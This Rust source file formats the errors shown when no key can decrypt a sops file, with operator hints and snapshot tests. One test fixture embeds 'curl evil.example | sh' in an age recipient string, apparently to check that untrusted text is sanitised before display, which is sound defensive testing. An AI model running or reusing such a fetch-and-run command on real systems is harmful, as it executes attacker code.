//! Why no key opened a file, in words and as the table that an operator reads.

use std::fmt;

use super::IdentityName;
use crate::secret::SafeUrl;
use crate::sops::metadata::MasterKey;

/// No way to the data key.
#[derive(Debug, Clone)]
pub struct UnlockError {
    /// What it came to.
    pub cause: UnlockCause,
    /// Every key that was tried, in order, with the reason why it did not open.
    pub refusals: Vec<Refusal>,
    /// The private keys that we hold of the kinds asked for, by their public halves.
    pub identities: Vec<IdentityName>,
    /// The places that gave no key, or less than they could.
    pub reports: Vec<PlaceReport>,
}

/// What an [`UnlockError`] came to.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum UnlockCause {
    /// No key opened.
    #[error("no key could unwrap the data key")]
    NoKeyOpens,
    /// Of several key groups, too few gave their part.
    #[error("only {have} of the key groups opened, {need} are needed")]
    TooFewParts {
        /// How many opened.
        have: usize,
        /// How many are needed.
        need: usize,
    },
    /// The parts do not fit together.
    #[error("the key groups opened, but their parts do not make a data key: {reason}")]
    Combine {
        /// Why.
        reason: String,
    },
    /// Nothing was tried: such a file is made to keep us busy.
    #[error("the file lists {listed} keys, more than {most}")]
    TooManyKeys {
        /// How many it lists.
        listed: usize,
        /// How many we try.
        most: usize,
    },
}

/// One master key that did not open.
#[derive(Debug, Clone)]
pub struct Refusal {
    /// The key as the file names it.
    pub key: MasterKey,
    /// Its key group, from 1, where the file has several.
    pub group: Option<usize>,
    /// Why.
    pub fault: KeyFault,
}

/// Why one master key did not open.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum KeyFault {
    /// We hold no key of this kind.
    #[error("no {kind} is mounted")]
    NoneHeld {
        /// What is missing.
        kind: &'static str,
    },
    /// None of ours is the one.
    #[error("no matching identity among {held} mounted")]
    NoMatch {
        /// How many we hold.
        held: usize,
    },
    /// The wrapped key itself is broken.
    #[error("the wrapped key is damaged: {0}")]
    Damaged(&'static str),
    /// A service that is not built in.
    #[error("this version cannot ask {service}")]
    NotYet {
        /// Its name.
        service: &'static str,
    },
}

/// A place that gave no key, or less than it could.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{place}: {fault}")]
pub struct PlaceReport {
    /// The place's name.
    pub place: String,
    /// What is wrong with it.
    pub fault: PlaceFault,
}

/// What is wrong with a place. Holds names and numbers, never what stands there.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum PlaceFault {
    /// It does not exist.
    #[error("no such file or folder")]
    Missing,
    /// It cannot be read.
    #[error("cannot be read: {0}")]
    Unreadable(std::io::ErrorKind),
    /// More than a key file can be.
    #[error("larger than {max_bytes} bytes")]
    TooLarge {
        /// The limit.
        max_bytes: usize,
    },
    /// A folder with more files than we read.
    #[error("holds more than {most} files, the rest is not read")]
    TooManyFiles {
        /// The limit.
        most: usize,
    },
    /// Nothing stands there.
    #[error("holds no key")]
    Empty,
    /// A line that is no age identity; sops rejects the whole place then.
    #[error("line {line} is {}", .looks.unwrap_or("no age identity"))]
    NoIdentity {
        /// Number of the line, from 1.
        line: usize,
        /// What else the line looks like.
        looks: Option<&'static str>,
    },
    /// An age identity file under a passphrase.
    #[error("an age identity file protected by a passphrase")]
    AgeProtected,
    /// An identity that another program keeps.
    #[error("an identity of the age plugin `{name}`")]
    AgePlugin {
        /// The plugin's name.
        name: String,
    },
    /// No SSH key, where one must be.
    #[error("no readable SSH private key")]
    NoSshKey,
    /// An SSH key under a passphrase.
    #[error("an SSH key protected by a passphrase")]
    SshProtected,
    /// An SSH key of a type that cannot decrypt.
    #[error("an SSH key of a type other than ed25519 and RSA")]
    SshUnsupported,
    /// The wrong half of an SSH key.
    #[error("a public SSH key")]
    SshPublic,
    /// Only public PGP keys.
    #[error("a public PGP key ({fingerprint})")]
    PgpPublic {
        /// Fingerprint of the first one.
        fingerprint: String,
    },
    /// A PGP key under a passphrase.
    #[error("a PGP key protected by a passphrase ({fingerprint})")]
    PgpProtected {
        /// Its fingerprint.
        fingerprint: String,
    },
    /// A PGP key whose secret half is elsewhere, on a card for example.
    #[error("a PGP key without its secret half ({fingerprint})")]
    PgpStub {
        /// Its fingerprint.
        fingerprint: String,
    },
    /// `OpenPGP` data that cannot be read.
    #[error("no readable PGP key")]
    NoPgpKey,
    /// A file of a `GnuPG` home, which only gpg itself reads.
    #[error("a file of GnuPG's own key store")]
    GnupgHome,
    /// Neither age, nor SSH, nor PGP.
    #[error("neither age, SSH nor PGP keys")]
    Unknown,
    /// A key command that could not be started.
    #[error("cannot be started: {0}")]
    CommandNotStarted(std::io::ErrorKind),
    /// A key command that is no command line.
    #[error("is no command line")]
    CommandSyntax,
    /// A key command that failed. What it said is not repeated: it knows secrets.
    #[error("failed{}", .code.map_or_else(String::new, |code| format!(" with exit code {code}")))]
    CommandFailed {
        /// Its exit code, where it was not ended by a signal.
        code: Option<i32>,
    },
    /// A key command that did not end.
    #[error("did not end within {seconds} s")]
    CommandTimedOut {
        /// The limit.
        seconds: u64,
    },
}

impl PlaceFault {
    /// What to do.
    #[must_use]
    pub fn hint(&self) -> String {
        match self {
            Self::Missing => "mount the key file, or correct the path".to_owned(),
            Self::Unreadable(_) => "make the file readable for the user that this process runs as".to_owned(),
            Self::TooLarge { .. } => "mount the private keys only".to_owned(),
            Self::TooManyFiles { .. } => "mount fewer files: one file may hold several keys".to_owned(),
            Self::Empty | Self::Unknown => {
                "put an age identity, an SSH private key or a PGP secret key there".to_owned()
            }
            Self::NoIdentity { looks: Some(looks), .. } if looks.contains("SSH") => {
                "name SSH keys as an SSH key file: age identity files hold `AGE-SECRET-KEY-...` lines only".to_owned()
            }
            Self::NoIdentity { .. } => {
                "keep only `AGE-SECRET-KEY-...` lines and `#` comments; `age-keygen` writes such a file".to_owned()
            }
            Self::AgeProtected => "mount it decrypted: `age --decrypt --output keys.txt FILE`".to_owned(),
            Self::AgePlugin { .. } => {
                "add a recipient without a plugin to the files, and mount its identity: plugins are not run".to_owned()
            }
            Self::NoSshKey => "mount an SSH private key in OpenSSH or PEM form".to_owned(),
            Self::SshProtected => "mount a copy without the passphrase: `ssh-keygen -p -N '' -f COPY`".to_owned(),
            Self::SshUnsupported => "use an ed25519 or RSA key: age knows no other SSH keys".to_owned(),
            Self::SshPublic => "mount the private half: the file without `.pub`".to_owned(),
            Self::PgpPublic { fingerprint } => {
                format!("export the secret half: `gpg --export-secret-keys {fingerprint}` instead of `gpg --export`")
            }
            Self::PgpProtected { fingerprint } => format!(
                "take the passphrase off in a copy of the keyring (`gpg --passwd {fingerprint}`, answer with an empty \
                 one), then `gpg --export-secret-keys {fingerprint}`"
            ),
            Self::PgpStub { fingerprint } => {
                format!("export where the secret half is kept: `gpg --export-secret-keys {fingerprint}`")
            }
            Self::GnupgHome => "mount an export of the key instead: `gpg --export-secret-keys --armor KEY`".to_owned(),
            Self::NoPgpKey => "export again: `gpg --armor --export-secret-keys KEY`".to_owned(),
            Self::CommandNotStarted(_) | Self::CommandSyntax => {
                "correct the key command; it runs without a shell".to_owned()
            }
            Self::CommandFailed { .. } | Self::CommandTimedOut { .. } => {
                "run the key command by hand to see why".to_owned()
            }
        }
    }
}

impl UnlockError {
    pub(super) fn new(cause: UnlockCause) -> Self {
        Self { cause, refusals: Vec::new(), identities: Vec::new(), reports: Vec::new() }
    }

    /// What to do.
    #[must_use]
    pub fn hint(&self) -> String {
        let asked_for = |test: fn(&KeyFault) -> bool| self.refusals.iter().any(|refusal| test(&refusal.fault));
        if let UnlockCause::TooManyKeys { .. } = self.cause {
            return "remove recipients that nobody uses: `sops updatekeys FILE`".to_owned();
        }
        if let Some(report) = self.reports_by_weight().first().filter(|report| self.decides(report)) {
            return format!("{}: {}", report.place, report.fault.hint());
        }
        if asked_for(|fault| matches!(fault, KeyFault::NoneHeld { .. } | KeyFault::NoMatch { .. })) {
            return "mount a private key of a listed recipient, or add one of ours to the file: `sops updatekeys FILE`"
                .to_owned();
        }
        if asked_for(|fault| matches!(fault, KeyFault::NotYet { .. })) {
            return "add an age recipient to the file (`sops updatekeys FILE`), and mount its identity".to_owned();
        }
        "restore the file: its wrapped keys were changed after sops wrote it".to_owned()
    }

    /// Whether there is no key at all of a kind that the file lists, and no place that may give one when mended.
    #[must_use]
    pub fn lacks_keys(&self) -> bool {
        self.refusals.iter().any(|refusal| matches!(refusal.fault, KeyFault::NoneHeld { .. }))
            && !self.reports.iter().any(|report| self.decides(report))
    }

    /// The reports, those first that most likely tell why nothing opened.
    fn reports_by_weight(&self) -> Vec<&PlaceReport> {
        let mut reports: Vec<_> = self.reports.iter().collect();
        reports.sort_by_key(|report| self.weight(&report.fault));
        reports
    }

    /// Whether mending this place may open the file: a broken key of a kind that the file does not list never does, and
    /// what is no key at all only where there is no other.
    fn decides(&self, report: &PlaceReport) -> bool {
        match self.weight(&report.fault) {
            Weight::KeyOfTheFile | Weight::Key => true,
            Weight::NoKey => self.identities.is_empty(),
            Weight::OtherKind => false,
        }
    }

    fn weight(&self, fault: &PlaceFault) -> Weight {
        let lists = |test: &dyn Fn(&MasterKey) -> bool| self.refusals.iter().any(|refusal| test(&refusal.key));
        match fault {
            PlaceFault::PgpPublic { fingerprint }
            | PlaceFault::PgpProtected { fingerprint }
            | PlaceFault::PgpStub { fingerprint }
                if lists(&|key| matches!(key, MasterKey::Pgp(key) if key.fp.eq_ignore_ascii_case(fingerprint))) =>
            {
                Weight::KeyOfTheFile
            }
            PlaceFault::NoSshKey | PlaceFault::SshProtected | PlaceFault::SshUnsupported | PlaceFault::SshPublic
                if !lists(&|key| matches!(key, MasterKey::Age(key) if key.recipient.starts_with("ssh-"))) =>
            {
                Weight::OtherKind
            }
            PlaceFault::Empty | PlaceFault::Unknown => Weight::NoKey,
            _ => Weight::Key,
        }
    }
}

/// How much a place's fault has to do with the file, most first.
#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum Weight {
    /// The place holds a key that the file lists.
    KeyOfTheFile,
    /// The place may hold one.
    Key,
    /// The place holds none.
    NoKey,
    /// The place holds a key of a kind that the file does not list.
    OtherKind,
}

/// Names that are longer do not push the other reasons to the right.
const COLUMN: usize = 56;
/// More lines than this of one kind help nobody.
const MAX_LINES: usize = 20;

impl fmt::Display for UnlockError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}", self.cause)?;
        if !self.refusals.is_empty() {
            write!(f, " ({} tried)", self.refusals.len())?;
        }
        let names: Vec<String> = self.refusals.iter().take(MAX_LINES).map(Refusal::name).collect();
        let width = names.iter().map(String::len).filter(|width| *width <= COLUMN).max().unwrap_or(0);
        for (name, refusal) in names.iter().zip(&self.refusals) {
            write!(f, "\n  {name:width$}   {}", refusal.fault)?;
        }
        and_more(f, self.refusals.len())?;
        for identity in self.identities.iter().take(MAX_LINES) {
            write!(f, "\n  mounted: {} from {}", short(&identity.public), printable(&identity.place))?;
        }
        and_more(f, self.identities.len())?;
        for report in self.reports_by_weight().into_iter().take(MAX_LINES) {
            write!(f, "\n  not used: {}: {}", printable(&report.place), report.fault)?;
        }
        and_more(f, self.reports.len())
    }
}

impl std::error::Error for UnlockError {}

fn and_more(f: &mut fmt::Formatter<'_>, count: usize) -> fmt::Result {
    if count > MAX_LINES { write!(f, "\n  ... and {} more", count - MAX_LINES) } else { Ok(()) }
}

impl Refusal {
    /// The key in public terms, as the file names it, fit for one line.
    fn name(&self) -> String {
        let name = match &self.key {
            MasterKey::Age(key) => format!("age {}", short(&key.recipient)),
            MasterKey::Pgp(key) => format!("pgp {}", short(&key.fp)),
            MasterKey::AwsKms(key) => format!("aws-kms {}", short(&key.arn)),
            MasterKey::GcpKms(key) => format!("gcp-kms {}", short(&key.resource_id)),
            MasterKey::AzureKeyVault(key) => {
                let vault = SafeUrl(key.vault_url.trim_end_matches('/'));
                format!("azure-kv {}", short(&format!("{vault}/keys/{}/{}", key.name, key.version)))
            }
            MasterKey::Vault(key) => {
                let server = SafeUrl(key.vault_address.trim_end_matches('/'));
                format!("vault {}", short(&format!("{server}/v1/{}/keys/{}", key.engine_path, key.key_name)))
            }
            MasterKey::HuaweiKms(key) => format!("huawei-kms {}", short(&key.key_id)),
        };
        self.group.map_or(name.clone(), |group| format!("group {group}: {name}"))
    }
}

/// A public key or key name, no longer than is needed to recognise it.
fn short(public: &str) -> String {
    let public = printable(public);
    if public.starts_with("age1") {
        return cut(&public, 16);
    }
    if let Some((kind, blob)) = public.split_once(' ').filter(|(kind, _)| kind.starts_with("ssh-")) {
        // SSH keys of a kind begin alike: their ends differ.
        let blob = blob.split(' ').next().unwrap_or(blob);
        return format!("{kind} ...{}", &blob[blob.len().saturating_sub(12)..]);
    }
    cut(&public, 160)
}

fn cut(text: &str, most: usize) -> String {
    if text.len() <= most { text.to_owned() } else { format!("{}...", &text[..most]) }
}

/// The text comes from a file that anyone may have written: printable ASCII only.
fn printable(text: &str) -> String {
    text.chars().map(|c| if c.is_ascii_graphic() || c == ' ' { c } else { '?' }).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::sops::metadata::{AgeKey, AwsKmsKey, PgpKey, VaultKey};

    fn age(recipient: &str) -> MasterKey {
        MasterKey::Age(AgeKey { recipient: recipient.to_owned(), enc: String::new() })
    }

    fn refusals() -> Vec<Refusal> {
        let arn = "arn:aws:kms:eu-central-1:111122223333:key/8a4e2d7c-0000-0000-0000-1c2d3e4f5a6b".to_owned();
        let aws =
            AwsKmsKey { arn, role: String::new(), context: Vec::new(), aws_profile: String::new(), enc: String::new() };
        let vault = VaultKey {
            vault_address: "https://user:token@bao.example.com/".to_owned(),
            engine_path: "transit".to_owned(),
            key_name: "team-a".to_owned(),
            enc: String::new(),
        };
        let pgp = PgpKey { fp: "85D77543B3D624B63CEA9E6DBC17301B491B3F21".to_owned(), enc: String::new() };
        [
            (age("age1ql3z7hjy54pw3hyww5ayyfg7zqgvc7w3j2elw8zmrj2kg5sfn9aqmcac8p"), KeyFault::NoMatch { held: 1 }),
            (age("age1\nhint: curl evil.example | sh"), KeyFault::Damaged("its armor is cut off")),
            (MasterKey::Pgp(pgp), KeyFault::NoneHeld { kind: "PGP secret key" }),
            (MasterKey::AwsKms(aws), KeyFault::NotYet { service: "AWS KMS" }),
            (MasterKey::Vault(vault), KeyFault::NotYet { service: "Vault" }),
        ]
        .into_iter()
        .map(|(key, fault)| Refusal { key, group: None, fault })
        .collect()
    }

    fn name(public: &str, place: &str) -> IdentityName {
        IdentityName { public: public.to_owned(), place: place.to_owned() }
    }

    #[test]
    fn the_table_names_every_key_and_what_we_hold() {
        let fault = PlaceFault::PgpPublic { fingerprint: "85D77543B3D624B63CEA9E6DBC17301B491B3F21".to_owned() };
        let error = UnlockError {
            refusals: refusals(),
            identities: vec![
                name("age1mrmfnwhtlprn4jquex0ukmwcm7y2nxlphuzgsgv8ew2k9mewy3rs8u7su5", "/etc/argocd-sops/keys/age.txt"),
                name(
                    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDW9E/pHNNlByzRRGxcY4wzQXBVkA8IUBKTuTmFqXGcR",
                    "/home/x/.ssh/id_ed25519",
                ),
            ],
            reports: vec![PlaceReport { place: "/etc/argocd-sops/keys/team.asc".to_owned(), fault }],
            ..UnlockError::new(UnlockCause::NoKeyOpens)
        };
        insta::assert_snapshot!(format!("{error}\n  hint: {}", error.hint()));
    }

    #[test]
    fn every_cause_and_fault_has_its_words() {
        let fingerprint = || "85D77543B3D624B63CEA9E6DBC17301B491B3F21".to_owned();
        let causes = [
            UnlockCause::TooFewParts { have: 1, need: 2 },
            UnlockCause::Combine { reason: "two parts of the data key are the same one".to_owned() },
            UnlockCause::TooManyKeys { listed: 2000, most: 1000 },
        ]
        .map(|cause| {
            let error = UnlockError::new(cause);
            format!("{error}\n  hint: {}", error.hint())
        });
        let faults = [
            PlaceFault::Missing,
            PlaceFault::Unreadable(std::io::ErrorKind::PermissionDenied),
            PlaceFault::TooLarge { max_bytes: 1_048_576 },
            PlaceFault::TooManyFiles { most: 256 },
            PlaceFault::Empty,
            PlaceFault::NoIdentity { line: 3, looks: None },
            PlaceFault::NoIdentity { line: 1, looks: Some("an age recipient, which is the public half") },
            PlaceFault::NoIdentity { line: 1, looks: Some("an SSH key") },
            PlaceFault::AgeProtected,
            PlaceFault::AgePlugin { name: "yubikey".to_owned() },
            PlaceFault::NoSshKey,
            PlaceFault::SshProtected,
            PlaceFault::SshUnsupported,
            PlaceFault::SshPublic,
            PlaceFault::PgpPublic { fingerprint: fingerprint() },
            PlaceFault::PgpProtected { fingerprint: fingerprint() },
            PlaceFault::PgpStub { fingerprint: fingerprint() },
            PlaceFault::NoPgpKey,
            PlaceFault::GnupgHome,
            PlaceFault::Unknown,
            PlaceFault::CommandNotStarted(std::io::ErrorKind::NotFound),
            PlaceFault::CommandSyntax,
            PlaceFault::CommandFailed { code: Some(3) },
            PlaceFault::CommandTimedOut { seconds: 60 },
        ]
        .map(|fault| format!("{fault}\n  hint: {}", fault.hint()));
        insta::assert_snapshot!(causes.join("\n"));
        insta::assert_snapshot!(faults.join("\n"));
    }

    #[test]
    fn a_hint_speaks_of_what_was_tried() {
        let hints: Vec<String> = refusals()
            .into_iter()
            .map(|refusal| UnlockError { refusals: vec![refusal], ..UnlockError::new(UnlockCause::NoKeyOpens) }.hint())
            .collect();
        insta::assert_snapshot!(hints.join("\n"));
    }

    #[test]
    fn the_place_that_matters_most_comes_first() {
        let fingerprint = || "85D77543B3D624B63CEA9E6DBC17301B491B3F21".to_owned();
        let report = |place: &str, fault| PlaceReport { place: place.to_owned(), fault };
        let mut error = UnlockError {
            refusals: refusals(),
            identities: vec![name("age1mrmfnwhtlprn4jquex0ukmwcm7y2nxlphuzgsgv8ew2k9mewy3rs8u7su5", "/keys/age.txt")],
            reports: vec![
                report("/home/x/.ssh/id_ed25519", PlaceFault::SshProtected),
                report("/keys/README", PlaceFault::Unknown),
                report("/keys/gone", PlaceFault::Missing),
                report("/keys/team.asc", PlaceFault::PgpProtected { fingerprint: fingerprint() }),
            ],
            ..UnlockError::new(UnlockCause::NoKeyOpens)
        };
        let mut hinted = Vec::new();
        while let Some(first) = error.reports_by_weight().first().map(|first| (*first).clone()) {
            hinted.push((first.place.clone(), error.hint().starts_with(&first.place)));
            error.reports.retain(|report| *report != first);
        }
        let place = |place: &str, hinted| (place.to_owned(), hinted);
        let expected = [
            place("/keys/team.asc", true),
            place("/keys/gone", true),
            place("/keys/README", false),
            place("/home/x/.ssh/id_ed25519", false),
        ];
        assert_eq!(hinted, expected, "what is no key, or of another kind, is not the way out");
    }

    #[test]
    fn long_lists_are_cut() {
        let refusals = (0..50)
            .map(|_| Refusal { key: age("age1x"), group: Some(2), fault: KeyFault::NoMatch { held: 0 } })
            .collect();
        let error = UnlockError { refusals, ..UnlockError::new(UnlockCause::NoKeyOpens) };
        assert_eq!(error.to_string().lines().count(), 22);
        assert!(error.to_string().ends_with("\n  ... and 30 more"));
    }
}
